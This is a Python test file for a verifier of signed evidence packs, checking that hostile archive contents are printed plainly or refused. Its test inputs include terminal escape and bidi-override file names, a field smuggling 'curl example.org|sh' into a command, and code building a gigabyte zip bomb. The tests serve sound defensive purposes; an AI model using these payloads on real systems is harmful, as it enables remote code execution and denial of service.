"""What a hostile pack makes the program print, or wait for: plain words, and soon."""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.mldsa import MLDSA44PrivateKey

from lifecycle.evidence.layout import zipped
from lifecycle.proofs.cosignatures import ML_DSA_44, WitnessKey, ml_dsa_message
from lifecycle.proofs.signature_lines import SignatureLine, taken_apart
from tests.evidence.house import START_US, VERIFY, House, lived
from tests.evidence.lived_house import house, pack
from tests.evidence.packs import Result, files_of, listed_anew, packed, rebuilt, relisted, signed_anew, verify
from tests.evidence.test_anchored_pack import POLICY, cosigned, seen_by

__all__ = ["house", "pack"]

Files = dict[str, bytes]


def printed(pack: bytes, folder: Path) -> tuple[int, str]:
    """The exit code, and all that a person would see in a terminal."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pack.zip").write_bytes(pack)
    outcome = subprocess.run(
        [sys.executable, "-I", str(VERIFY), str(folder / "pack.zip")],
        env={"PATH": os.environ["PATH"], "PYTHONIOENCODING": "utf-8"},
        capture_output=True,
        timeout=60,
        check=False,
    )
    return outcome.returncode, (outcome.stdout + outcome.stderr).decode()


def is_plain(text: str) -> bool:
    return text.isascii() and text.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "name",
    [
        "x\x1b[1A\x1b[2K\rholds    L0  everything",
        "x\nLevel reached: L4.",
        "views/\u202egnp.lmth",
        "leaves/000001-\x07.json",
        "anchors/1-stamp-1.tsr; curl example.org|sh",
    ],
)
def test_a_name_that_moves_the_cursor(pack: bytes, name: str, tmp_path: Path) -> None:
    """It is printed in plain characters, on the line that says what is wrong with it."""
    code, text = printed(zipped(files_of(pack) | {name: b"x"}, []), tmp_path)
    assert code == 1
    assert is_plain(text)
    assert [line for line in text.splitlines() if line.startswith("Level reached")] == ["Level reached: none."]


@pytest.mark.parametrize("origin", ["bank. Level reached: L4.", "bank\x1b[8m", "bank+1", "b\u00e4nk", ""])
def test_an_origin_that_is_a_sentence(pack: bytes, origin: str, tmp_path: Path) -> None:
    """No log goes by such a name (C2SP signed-note: no spaces, no plus)."""
    note = files_of(pack)["checkpoint"].decode()
    other = f"{origin}\n{note.partition(chr(10))[2]}".encode()
    code, text = printed(zipped(files_of(pack) | {"checkpoint": other}, []), tmp_path)
    assert code == 2
    assert is_plain(text)
    assert "Level reached: L4" not in text


def test_what_a_record_says_in_signs_of_its_own(tmp_path: Path) -> None:
    """A name of a model or a person from the log is printed plainly, too."""
    house = lived(tmp_path / "house")
    code, text = printed(packed(house), tmp_path / "run")
    assert code == 0
    assert is_plain(text)


# Time stamps


def test_a_command_with_another_one_in_it(house: House, pack: bytes, tmp_path: Path) -> None:
    """pack.json says what a time stamp lies in; nobody reads that."""

    def alter(files: Files) -> None:
        stamps = [{"note": "README.txt", "receipt": "x.tsr; curl example.org|sh #", "anchor": "a", "at_us": 0}]
        listed_anew(files, lambda about: about.update(stamps=stamps))
        signed_anew(files, house)

    result = verify(rebuilt(pack, alter), tmp_path, str(house.log_key))
    assert "curl" not in str(result.said)


def test_a_time_stamp_on_another_log(tmp_path: Path) -> None:
    """Nobody is asked to run a command that would prove something else."""
    house, other = lived(tmp_path / "house"), lived(tmp_path / "other")
    seen_by(house, "authority", "timestamp", b"whatever")
    pack = packed(house)
    path = next(path for path in files_of(pack) if path.endswith("-stamp-1.checkpoint"))

    def alter(files: Files) -> None:
        relisted(files, path, other.checkpoint().encode())
        signed_anew(files, house)

    assert "openssl ts -verify" in str(verify(pack, tmp_path / "good", str(house.log_key)).said)
    result = verify(rebuilt(pack, alter), tmp_path / "run", str(house.log_key))
    assert (result.code, result.at("L3")) == (1, False)
    assert "openssl ts -verify" not in str(result.said)


def test_require_what_only_a_time_stamp_shows(tmp_path: Path) -> None:
    """Witnesses are no time stamp: a level that the program can't reach can't be asked of it."""
    house = lived(tmp_path / "house")
    cosigned(house, "w1", "w2")
    pack, trust = packed(house), (str(house.log_key), POLICY)
    assert verify(pack, tmp_path / "four", *trust, options=("--require", "L4")).code == 0
    assert verify(pack, tmp_path / "three", *trust, options=("--require", "L3")).code != 0


# Witnesses


def with_quantum_witness(house: House) -> str:
    """Has a witness with an ML-DSA-44 key cosign the log, and returns the policy that asks for it."""
    key = MLDSA44PrivateKey.generate()
    witness = WitnessKey("example.org/q", key.public_key().public_bytes_raw(), ML_DSA_44)
    text, _ = taken_apart(house.checkpoint())
    at = START_US // 1_000_000
    signature = at.to_bytes(8, "big") + key.sign(ml_dsa_message("example.org/q", text, at))
    seen_by(house, "q", "witness", f"{SignatureLine('example.org/q', witness.key_id, signature)}\n".encode())
    return f"witness q {witness}\nquorum q\n"


def test_a_witness_with_a_key_of_a_kind_that_is_not_known(tmp_path: Path) -> None:
    """Whether it cosigned can't be said; that is no finding against the log, and no fourth level."""
    house = lived(tmp_path / "house")
    policy = with_quantum_witness(house)
    result = verify(packed(house), tmp_path / "run", str(house.log_key), policy)
    assert (result.code, result.level, result.at("L4")) == (0, "L1", None)
    assert "kind 6" in str(result.said)
    assert verify(packed(house), tmp_path / "asked", str(house.log_key), policy, options=("--require", "L4")).code == 1


# Sizes


def refused(pack: bytes, tmp_path: Path) -> Result:
    result = verify(pack, tmp_path)
    assert result.code == 2
    assert "There is nothing to verify" in result.errors
    return result


def test_a_file_that_unpacks_to_gigabytes(pack: bytes, tmp_path: Path) -> None:
    """It says how large it is, and is not unpacked."""
    target = BytesIO(pack)
    with (
        zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("views/bomb", "w", force_zip64=True) as file,
    ):
        for _ in range(1100):
            file.write(bytes(1_000_000))
    assert "larger than" in refused(target.getvalue(), tmp_path).errors


def test_a_checkpoint_over_more_records_than_are_here(pack: bytes, tmp_path: Path) -> None:
    """Nothing is done for each record that there is said to be."""
    origin, _, rest = files_of(pack)["checkpoint"].decode().split("\n", 2)
    result = verify(zipped(files_of(pack) | {"checkpoint": f"{origin}\n999999999\n{rest}".encode()}, []), tmp_path)
    assert any("the tiles do not lead to the root over 999999999 records" in finding for finding in result.broken)
